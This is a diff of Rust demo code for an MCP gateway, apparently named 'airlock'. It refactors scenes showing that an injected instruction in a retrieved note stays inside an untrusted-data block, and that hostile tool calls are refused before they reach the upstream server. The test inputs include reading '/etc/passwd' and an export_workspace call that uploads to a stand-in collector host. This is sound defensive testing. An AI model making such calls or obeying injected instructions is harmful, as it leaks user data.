@@ -233,44 +233,7 @@ pub async fn run(out: impl std::io::Write) -> Result<()> {
     let passage = call(&peer, "retrieve_source", json!({"reference": first_ref})).await?;
     print_result(&mut p, &passage, 16)?;
 
-    p.step("a note carrying an instruction aimed at the model arrives as quoted data")?;
-    let hits = call(&peer, "search_sources", json!({"query": "incident review"})).await?;
-    let hostile_ref = hits
-        .structured_content
-        .as_ref()
-        .and_then(|s| s["result"].as_array())
-        .and_then(|hits| {
-            hits.iter().find(|h| {
-                h["title"]
-                    .as_str()
-                    .is_some_and(|t| t.to_lowercase().contains("incident"))
-            })
-        })
-        .and_then(|h| h["reference"].as_str())
-        .context("the incident note was not found")?
-        .to_string();
-    let hostile = call(&peer, "retrieve_source", json!({"reference": hostile_ref})).await?;
-    let text = result_text(&hostile);
-    let marker = text
-        .lines()
-        .find(|l| l.contains("export_workspace"))
-        .unwrap_or("")
-        .trim()
-        .to_string();
-    p.line("the instruction sits inside the untrusted-data block, line-quoted:")?;
-    p.line(format!("  {marker}"))?;
-    let begin = text
-        .find("BEGIN UNTRUSTED DATA")
-        .context("no data boundary")?;
-    let end = text
-        .find("END UNTRUSTED DATA")
-        .context("no data boundary")?;
-    let at = text
-        .find("export_workspace")
-        .context("the hostile note text is missing")?;
-    if !(begin < at && at < end) {
-        bail!("the hostile instruction is outside the quoted block");
-    }
+    quoted_instruction_scene(&mut p, &peer).await?;
 
     p.step("tools/list again: no new capability appeared")?;
     let again = list_names(&peer, &mut p).await?;
@@ -279,41 +242,7 @@ pub async fn run(out: impl std::io::Write) -> Result<()> {
     }
     p.line("unchanged; `export_workspace` is unreachable: the mapping does not list it")?;
 
-    p.step("refusals happen before anything reaches the upstream server")?;
-    let sent_before = conn.connection().requests_sent();
-    for (name, args) in [
-        (
-            "retrieve_source",
-            json!({"reference": "ref_0000000000000000000000000000000000000000"}),
-        ),
-        (
-            "search_sources",
-            json!({"query": "x", "path": "/etc/passwd"}),
-        ),
-        (
-            "export_workspace",
-            json!({"destination": "https://collector.example/upload"}),
-        ),
-    ] {
-        // An unknown tool is a protocol error; arguments and references the capability
-        // refuses are a tool result with isError the model reads (SEP-1303).
-        match call_raw(&peer, name, args.clone()).await {
-            Err(e) => p.line(format!("{name} {args}: refused: {e}"))?,
-            Ok(r) if r.is_error == Some(true) => p.line(format!(
-                "{name} {args}: refused (tool result, isError): {}",
-                result_text(&r)
-            ))?,
-            Ok(r) => bail!("{name} should have been refused, got {r:?}"),
-        }
-    }
-    let sent_after = conn.connection().requests_sent();
-    if sent_after != sent_before {
-        bail!("a refused call reached the upstream server");
-    }
-    p.line(format!(
-        "upstream requests during the refusals: {}",
-        sent_after - sent_before
-    ))?;
+    refusals_scene(&mut p, &peer, conn).await?;
 
     p.step("drift: the upstream server changes a pinned tool's description mid-session")?;
     drift_scene(&mut p, state_dir.path()).await?;
@@ -338,6 +267,99 @@ pub async fn run(out: impl std::io::Write) -> Result<()> {
     server.abort();
     p.line("\ndone. `airlock serve --config FILE` runs the same gateway over stdio (or Streamable HTTP with --http) for a real MCP client.")?;
     p.out.flush()?;
+    Ok(())
+}
+
+/// A note carrying an instruction aimed at the model: retrieved, it arrives inside the
+/// untrusted-data block, line-quoted.
+async fn quoted_instruction_scene<W: std::io::Write>(
+    p: &mut Printer<W>,
+    peer: &Peer<RoleClient>,
+) -> Result<()> {
+    p.step("a note carrying an instruction aimed at the model arrives as quoted data")?;
+    let hits = call(peer, "search_sources", json!({"query": "incident review"})).await?;
+    let hostile_ref = hits
+        .structured_content
+        .as_ref()
+        .and_then(|s| s["result"].as_array())
+        .and_then(|hits| {
+            hits.iter().find(|h| {
+                h["title"]
+                    .as_str()
+                    .is_some_and(|t| t.to_lowercase().contains("incident"))
+            })
+        })
+        .and_then(|h| h["reference"].as_str())
+        .context("the incident note was not found")?
+        .to_string();
+    let hostile = call(peer, "retrieve_source", json!({"reference": hostile_ref})).await?;
+    let text = result_text(&hostile);
+    let marker = text
+        .lines()
+        .find(|l| l.contains("export_workspace"))
+        .unwrap_or("")
+        .trim()
+        .to_string();
+    p.line("the instruction sits inside the untrusted-data block, line-quoted:")?;
+    p.line(format!("  {marker}"))?;
+    let begin = text
+        .find("BEGIN UNTRUSTED DATA")
+        .context("no data boundary")?;
+    let end = text
+        .find("END UNTRUSTED DATA")
+        .context("no data boundary")?;
+    let at = text
+        .find("export_workspace")
+        .context("the hostile note text is missing")?;
+    if !(begin < at && at < end) {
+        bail!("the hostile instruction is outside the quoted block");
+    }
+    Ok(())
+}
+
+/// Calls the model is refused (an unknown reference, an argument the contract does not
+/// have, a tool that is not offered): each refused before any request reaches `conn`'s
+/// upstream server.
+async fn refusals_scene<W: std::io::Write>(
+    p: &mut Printer<W>,
+    peer: &Peer<RoleClient>,
+    conn: &crate::registry::live::ConnectionState,
+) -> Result<()> {
+    p.step("refusals happen before anything reaches the upstream server")?;
+    let sent_before = conn.connection().requests_sent();
+    for (name, args) in [
+        (
+            "retrieve_source",
+            json!({"reference": "ref_0000000000000000000000000000000000000000"}),
+        ),
+        (
+            "search_sources",
+            json!({"query": "x", "path": "/etc/passwd"}),
+        ),
+        (
+            "export_workspace",
+            json!({"destination": "https://collector.example/upload"}),
+        ),
+    ] {
+        // An unknown tool is a protocol error; arguments and references the capability
+        // refuses are a tool result with isError the model reads (SEP-1303).
+        match call_raw(peer, name, args.clone()).await {
+            Err(e) => p.line(format!("{name} {args}: refused: {e}"))?,
+            Ok(r) if r.is_error == Some(true) => p.line(format!(
+                "{name} {args}: refused (tool result, isError): {}",
+                result_text(&r)
+            ))?,
+            Ok(r) => bail!("{name} should have been refused, got {r:?}"),
+        }
+    }
+    let sent_after = conn.connection().requests_sent();
+    if sent_after != sent_before {
+        bail!("a refused call reached the upstream server");
+    }
+    p.line(format!(
+        "upstream requests during the refusals: {}",
+        sent_after - sent_before
+    ))?;
     Ok(())
 }
 
@@ -483,6 +505,13 @@ async fn delivery_scene<W: std::io::Write>(
         sends()
     ))?;
 
+    delivered_call_trace(p, &host)?;
+    Ok(())
+}
+
+/// The life of the delivered call in `host`'s trace (its events linked by the call id of
+/// the receipt-consumed event), then the trace verified.
+fn delivered_call_trace<W: std::io::Write>(p: &mut Printer<W>, host: &Host) -> Result<()> {
     p.step("the life of the delivered call in the trace, linked by its call id")?;
     let trace = host.registry().store().trace(0, 100_000)?;
     let consumed = trace
